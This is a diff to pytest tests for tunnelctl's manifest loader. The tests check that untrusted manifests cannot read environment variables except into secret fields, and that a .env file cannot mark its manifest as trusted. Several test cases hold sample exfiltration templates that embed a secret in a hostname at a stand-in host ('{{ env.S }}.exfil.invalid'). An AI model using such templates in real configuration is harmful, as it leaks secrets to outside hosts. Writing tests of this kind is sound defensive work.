@@ -150,6 +150,12 @@ def test_allowed_variables_are_read_and_a_star_trusts_the_manifest(write_manifes
     assert developer.tunnels[0].settings.host == "devbox.lan"
 
 
+def test_a_dotenv_cannot_make_its_manifest_trusted(write_manifest):
+    write_manifest("TUNNELCTL_ENV_ALLOW=*\nCI=\n", name=".env")
+    printed = errors(write_manifest, {"host": "{{ env.S }}"}, {"S": SECRET, "CI": "true"})
+    assert "env.S may not be read: the manifest is not trusted (CI is set)" in printed
+
+
 def test_a_variable_name_the_template_computes_is_not_printed(write_manifest):
     printed = errors(write_manifest, {"host": "{{ env[env.S | lower] }}"}, {"S": SECRET, ALLOW: "S"})
     assert SECRET.lower() not in printed and "a variable whose name the template computes" in printed
@@ -158,14 +164,22 @@ def test_a_variable_name_the_template_computes_is_not_printed(write_manifest):
 @pytest.mark.parametrize("where", [{"engines": {"e": {"docker": "tcp://{{ env.S | lower }}.exfil.invalid:2376"}}},
                                    {"tunnels": [{"name": "a", "port": 1, "host": "{{ env.S }}.exfil.invalid"}]},
                                    {"tunnels": [{"name": "a", "port": 1, "server": "{{ env.S }}.exfil.invalid"}]},
-                                   {"defaults": {"host": "{{ env.S }}"}}])
-def test_an_untrusted_manifest_takes_no_address_from_the_environment(write_manifest, where):
+                                   {"tunnels": [{"name": "a", "port": "{{ env.S | length }}"}]},
+                                   {"tunnels": [{"name": "a", "port": 1, "labels": {"x": "{{ env.S[0] }}"}}]},
+                                   {"project": "{{ env.S | lower }}"}, {"defaults": {"host": "{{ env.S }}"}}])
+def test_an_untrusted_manifest_reads_the_environment_into_secret_fields_only(write_manifest, where):
     document = {"version": 1, "tunnels": [{"name": "a", "port": 1}], **where}
     path = write_manifest(yaml.safe_dump(document))
     with pytest.raises(ManifestError) as caught:
         manifest.load(path, {"S": SECRET, ALLOW: "S"})
-    assert "an address tunnelctl connects to may not come from the environment" in "\n".join(caught.value.details)
-    if "engines" in where:
+    assert "only secret fields (token, access_keys, basic_auth passwords) may read" in "\n".join(caught.value.details)
+    assert SECRET not in "\n".join(caught.value.details)
+    secret_fields = {"token": "{{ env.S }}", "access_keys": ["{{ env.K }}"],
+                     "basic_auth": [{"username": "u", "password": "{{ env.S }}"}]}
+    fine = write_manifest(yaml.safe_dump({"version": 1, "tunnels": [{"name": "a", "port": 1, **secret_fields}]}),
+                          name="fine.yaml")
+    assert manifest.load(fine, {"S": SECRET, "K": "k3y0123456789", ALLOW: "S,K"}).tunnels[0].settings.token == SECRET
+    if "engines" in where or "project" in where:
         with pytest.raises(ManifestError):
             manifest.load_scope(path, {"S": SECRET, ALLOW: "S"})
 
